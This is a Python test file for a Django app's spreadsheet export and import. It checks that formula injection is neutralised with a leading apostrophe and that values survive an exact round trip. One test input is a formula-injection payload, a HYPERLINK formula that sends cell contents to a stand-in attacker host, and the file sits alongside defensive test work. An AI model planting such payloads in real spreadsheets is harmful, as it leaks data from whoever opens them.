"""Formula injection in the DIN export: text that a spreadsheet would run as a formula is
written with a leading apostrophe, and the import takes it off again (exact round trip)."""

import io

import pytest
from openpyxl import load_workbook

from avk.access import forget_roles
from partners.models import Participation
from programme.din import services, transfer
from programme.models import Effort, ProgrammeLine
from tests.factories import PartnerFactory, ProgrammeFactory, RoleAssignmentFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Klik hier")'


def build(programme, team):
    partner = PartnerFactory(name=EVIL)
    Participation.objects.get_or_create(programme=programme, partner=partner)
    line = services.line_create(
        programme=programme, by=team, name="+31 lijn", challenge="'=al met apostrof"
    )
    s = services.strategic_goal_create(line=line, by=team, title="@SOM(A1)")
    goal = services.operational_goal_create(strategic_goal=s, by=team, title="-5 procent")
    services.effort_create(
        programme=programme,
        by=team,
        title="=1+1",
        description="gewone tekst",
        goals=[(goal, "hoog")],
        partners=[(partner, "trekker")],
        other_parties="-geen-",
    )
    return partner


def test_export_writes_no_formulas(programme, users):
    build(programme, users["programme_team"])
    book = load_workbook(io.BytesIO(transfer.din_export_workbook(programme)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    efforts = book["Inspanningen"]
    assert efforts["A2"].value == "'=1+1"
    assert efforts["N2"].value == "'" + EVIL
    assert efforts["P2"].value == "'-geen-"
    assert efforts["B2"].value == "gewone tekst"
    lines = book["Programmalijnen"]
    assert lines["A2"].value == "'+31 lijn"
    assert lines["B2"].value == "''=al met apostrof"
    assert book["Doelen"]["B2"].value == "'@SOM(A1)"
    assert book["Doelen"]["D2"].value == "'-5 procent"


def test_import_takes_the_apostrophe_off_again(programme, users):
    team = users["programme_team"]
    partner = build(programme, team)
    exported = transfer.din_export_workbook(programme)
    same = transfer.din_import(
        programme=programme, by=team, file=io.BytesIO(exported), dry_run=False
    )
    assert same.ok, same.errors
    assert not same.created and not same.updated
    fresh = ProgrammeFactory(slug="nieuw")
    RoleAssignmentFactory(programme=fresh, user=team)  # the import asks the policy
    forget_roles(team)
    Participation.objects.create(programme=fresh, partner=partner)
    result = transfer.din_import(programme=fresh, by=team, file=io.BytesIO(exported), dry_run=False)
    assert result.ok, result.errors
    line = ProgrammeLine.objects.get(programme=fresh)
    assert (line.name, line.challenge) == ("+31 lijn", "'=al met apostrof")
    effort = Effort.objects.get(programme=fresh)
    assert effort.title == "=1+1"
    assert [link.partner for link in effort.partner_links.all()] == [partner]
    assert _values(transfer.din_export_workbook(fresh)) == _values(exported)


def _values(content):
    book = load_workbook(io.BytesIO(content))
    return {s.title: list(s.iter_rows(values_only=True)) for s in book.worksheets}
